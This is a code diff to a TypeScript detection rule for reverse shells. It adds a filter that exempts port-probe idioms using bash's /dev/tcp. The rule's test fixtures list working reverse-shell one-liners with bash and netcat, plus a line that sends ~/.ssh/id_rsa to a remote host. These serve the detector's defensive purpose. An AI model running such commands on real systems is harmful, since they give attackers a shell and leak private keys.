@@ -1,4 +1,15 @@
-import type { Rule } from '../../rule.js';
+import type { Candidate, Rule } from '../../rule.js';
+
+/** No command, `:`, `true` or `echo` by itself, in front of the redirection. */
+const NOTHING_SENT =
+  /(?:^|["'`;&|{\n]|(?<!\$)\(|(?<![\w.-])(?:if|until|while|do|then|!|timeout\s\d+)\s)[ \t]*(?:(?:echo(?:\s+-n)?|:|true)\s*)?[<>]\s*$/;
+/** A shell is in the same command, before or behind a pipe: `</dev/tcp/host/80 bash`, `| sh`. */
+const SHELL_FOLLOWS = /^[^\n;)"'`]{0,40}(?<![\w.-])(?:ba|z|da|k)?sh(?![\w.-])/;
+
+/** `echo > /dev/tcp/$host/$port`, `</dev/tcp/host/80`: how scripts wait until a port is open; no shell is given to anybody. */
+function isMoreThanProbe({ before, after }: Candidate): boolean {
+  return !NOTHING_SENT.test(before) || SHELL_FOLLOWS.test(after);
+}
 
 export const rule: Rule = {
   pattern: 'reverse_shell',
@@ -12,7 +23,10 @@ export const rule: Rule = {
   anatomy: 'the network pseudo-devices of bash, or a network tool that is given a shell to run or a pipe to one',
   source: 'https://attack.mitre.org/techniques/T1059/004/ and https://www.revshells.com',
   match: [
-    { re: /\/dev\/(?:tcp|udp)\/["']?[\w.$[\]{}:-]{1,120}["']?\/["']?[\w${}]{1,20}/ },
+    {
+      re: /\/dev\/(?:tcp|udp)\/["']?[\w.$[\]{}:-]{1,120}["']?\/["']?[\w${}]{1,20}/,
+      accept: isMoreThanProbe,
+    },
     {
       re: /(?<![\w-])(?:nc|ncat|netcat|nc\.(?:exe|openbsd|traditional)|ncat\.exe|rcat|rustcat)\s[^\n|;&]*(?:-\w*[ec]|--exec|--sh-exec|-s)\s*["'=]?\s*(?:\/[\w./-]*\/)?(?:(?:ba|z|k|da|a|c)?sh|cmd|powershell|pwsh)(?![\w-])/,
       window: 300,
@@ -33,6 +47,11 @@ export const rule: Rule = {
     fires: [
       'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1',
       'exec 5<>/dev/tcp/$RHOST/$RPORT',
+      'sh </dev/tcp/203.0.113.7/4444',
+      'eval "$(</dev/tcp/203.0.113.7/4444)"',
+      '</dev/tcp/203.0.113.7/4444 | sh',
+      '>/dev/tcp/203.0.113.7/4444 0>&1 bash -i',
+      'cat ~/.ssh/id_rsa > /dev/tcp/203.0.113.7/4444',
       'nc 203.0.113.7 4444 -e /bin/sh',
       'busybox nc 203.0.113.7 4444 -e bash',
       'nc -c /bin/bash 203.0.113.7 4444',
@@ -45,6 +64,9 @@ export const rule: Rule = {
       'mkfifo {{path/to/pipe}}',
       'echo hello | nc -w 1 host 9',
       '/dev/tty',
+      '(echo -n > /dev/tcp/$HOST/$PORT) >/dev/null 2>&1',
+      'bash -c "echo >/dev/tcp/$IMAP/993" && echo "IMAP open"',
+      'until (: < /dev/tcp/db/5432) 2>/dev/null; do sleep 1; done',
       'socat TCP-LISTEN:8080,fork TCP:localhost:80',
       'rsync -e ssh a b:',
     ],
